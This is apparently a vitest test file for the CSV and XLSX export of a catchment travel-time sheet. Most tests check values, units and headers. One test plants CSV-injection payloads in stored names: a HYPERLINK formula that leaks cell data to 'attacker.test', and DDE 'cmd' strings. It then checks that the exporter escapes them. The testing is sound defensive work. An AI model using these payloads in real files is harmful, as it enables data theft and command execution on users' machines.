import ExcelJS from "exceljs";
import Papa from "papaparse";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { TravelTimeSheet } from "../../shared/schemas/sheet";
import { eq } from "drizzle-orm";
import { projects } from "../../server/db/schema";
import { subcatchments, surfaceClasses } from "../../server/db/schema-geodata";
import { FORMULA_START } from "../../server/geodata/compute/export";
import { startTestApp, type TestApp } from "../support/app";
import { buildGeodataCase, type GeodataCase } from "../support/geodata-case";

let t: TestApp;
let c: GeodataCase;
let sheet: TravelTimeSheet;

beforeAll(async () => {
  t = await startTestApp();
  c = await buildGeodataCase(t, "export");
  sheet = (await c.engineer.post(`/api/subcatchments/${c.subcatchmentId}/compute`).send({}))
    .body as TravelTimeSheet;
});
afterAll(() => t.close());

describe("exports of the travel-time sheet", () => {
  it("CSV: header block, units row under the names, one row per segment, totals, same numbers", async () => {
    const viewer = t.agent();
    const { signIn } = await import("../support/app");
    await signIn(viewer, c.team.members.viewer);
    const res = await viewer.get(`/api/subcatchments/${c.subcatchmentId}/sheet.csv`);
    expect(res.status).toBe(200);
    expect(res.headers["content-type"]).toMatch(/text\/csv/);
    expect(res.headers["content-disposition"]).toMatch(/Invented-area-A-existing-travel-time\.csv/);
    const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, "")).data;
    expect(rows.find((r) => r[0] === "Caution")?.[1]).toBe(sheet.caution);
    const head = rows.findIndex((r) => r[0] === "Segment");
    expect(rows[head + 1]?.[1]).toBe("m");
    const lengthCol = rows[head]?.indexOf("Length") ?? -1;
    const slopeCol = rows[head]?.indexOf("Slope") ?? -1;
    const velCol = rows[head]?.indexOf("Time, Velocity method") ?? -1;
    sheet.segments.forEach((s, i) => {
      const row = rows[head + 2 + i] ?? [];
      expect(Number(row[0])).toBe(i + 1);
      expect(Number(row[lengthCol])).toBe(s.length);
      expect(Number(row[slopeCol])).toBe(s.slope);
      expect(Number(row[velCol])).toBe(s.timesMin.velocity);
    });
    const totals = rows[head + 2 + sheet.segments.length] ?? [];
    expect(totals[0]).toBe("Total");
    expect(Number(totals[lengthCol])).toBe(sheet.totalLength);
    const governing = rows.find((r) => r[0] === "Governing Tc");
    expect(Number(governing?.[2])).toBe(sheet.governing?.tcMin);
    // The Monte Carlo band beside each Tc, the how-sure block, and no lag column to add up.
    const band = sheet.uncertainty?.monteCarlo.governingTcMin;
    expect(Number(governing?.[4])).toBe(band?.p10);
    expect(Number(governing?.[6])).toBe(band?.p90);
    expect(
      rows
        .find((r) => r[0] === "Governing Tc (min)")
        ?.slice(1, 4)
        .map(Number),
    ).toEqual([band?.p10, band?.p50, band?.p90]);
    expect(rows.some((r) => r[0]?.startsWith("Sensitivity"))).toBe(true);
    expect(rows[head]).not.toContain("Time, NRCS lag");
    expect(rows.find((r) => r[0] === "Peak flow (rational method)")?.[1]).toMatch(/\/ 360 = /);
  });

  it("XLSX: numbers as numbers with number formats, the same values as the JSON sheet", async () => {
    const res = await c.engineer
      .get(`/api/subcatchments/${c.subcatchmentId}/sheet.xlsx`)
      .responseType("blob");
    expect(res.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.body as ExcelJS.Buffer);
    const ws = book.getWorksheet("Travel time");
    if (!ws) throw new Error("no worksheet");
    let head = 0;
    ws.eachRow((row, n) => {
      if (row.getCell(1).value === "Segment") head = n;
    });
    expect(head).toBeGreaterThan(0);
    const titles = (ws.getRow(head).values as unknown[]).slice(1);
    const col = (title: string) => titles.indexOf(title) + 1;
    sheet.segments.forEach((s, i) => {
      const row = ws.getRow(head + 2 + i);
      expect(row.getCell(col("Length")).value).toBe(s.length);
      expect(row.getCell(col("Slope")).value).toBe(s.slope);
      expect(row.getCell(col("Time, NRCS segmental")).value).toBe(s.timesMin["nrcs-segmental"]);
      expect(row.getCell(col("Flow regime")).value).toBe(s.regime);
    });
    expect(ws.getColumn(col("Slope")).numFmt).toBe("0.00000");
    expect(ws.getRow(head + 1).getCell(col("Velocity")).value).toBe("m/s");
    const total = ws.getRow(head + 2 + sheet.segments.length);
    expect(total.getCell(1).value).toBe("Total");
    const segmental = sheet.methods.find((m) => m.id === "nrcs-segmental");
    expect(total.getCell(col("Time, NRCS segmental")).value).toBe(segmental?.computedMin);
  });

  it("says in the header when the path changed after the sheet was computed", async () => {
    const sub = await c.engineer.get(`/api/subcatchments/${c.subcatchmentId}`);
    await c.engineer
      .put(`/api/subcatchments/${c.subcatchmentId}/flow-path`)
      .send({ geometry: sub.body.flowPath.geometry, version: sub.body.flowPath.version });
    const res = await c.engineer.get(`/api/subcatchments/${c.subcatchmentId}/sheet.csv`);
    const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, "")).data;
    expect(rows.find((r) => r[0] === "Up to date")?.[1]).toMatch(/changed since; compute again/);
  });

  it("CSV: names a spreadsheet would run as formulas come out as text (CSV injection)", async () => {
    // OWASP "CSV Injection": a cell starting with = + - @ tab or CR is a formula to Excel and
    // LibreOffice. These go in through the names a project, subcatchment and class carry.
    const x = await buildGeodataCase(t, "export-formula");
    const hyperlink = '=HYPERLINK("http://attacker.test/?d="&A1,"Open")';
    const classId = x.classIdByName.lawn ?? "";
    await t.db.update(projects).set({ name: hyperlink }).where(eq(projects.id, x.projectId));
    await t.db
      .update(subcatchments)
      .set({ name: "+1+cmd|' /C calc'!A0" })
      .where(eq(subcatchments.id, x.subcatchmentId));
    await t.db
      .update(surfaceClasses)
      .set({ name: "@SUM(1+1)*cmd|' /C calc'!A0" })
      .where(eq(surfaceClasses.id, classId));
    const computed = await x.engineer
      .post(`/api/subcatchments/${x.subcatchmentId}/compute`)
      .send({});
    expect(computed.status).toBe(200);
    const res = await x.engineer.get(`/api/subcatchments/${x.subcatchmentId}/sheet.csv`);
    expect(res.status).toBe(200);
    const rows = Papa.parse<string[]>(res.text.replace(/^\uFEFF/, "")).data;
    const cells = rows.flat();
    expect(rows.find((r) => r[0] === "Project")?.[1]).toBe(`'${hyperlink}`);
    expect(rows.find((r) => r[0] === "Subcatchment")?.[1]).toBe("'+1+cmd|' /C calc'!A0");
    expect(cells).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    // No cell a spreadsheet would evaluate; plain numbers (negatives too) are left as numbers.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c))).toEqual([]);
  });

  it("CSV: a formula cell is caught even when the value has a line break or starts with tab or CR", () => {
    expect(FORMULA_START.test("=1+1\nsecond line")).toBe(true);
    expect(FORMULA_START.test("\t=1+1")).toBe(true);
    expect(FORMULA_START.test("\r=1+1")).toBe(true);
    expect(FORMULA_START.test("Lawn, good condition")).toBe(false);
  });
});
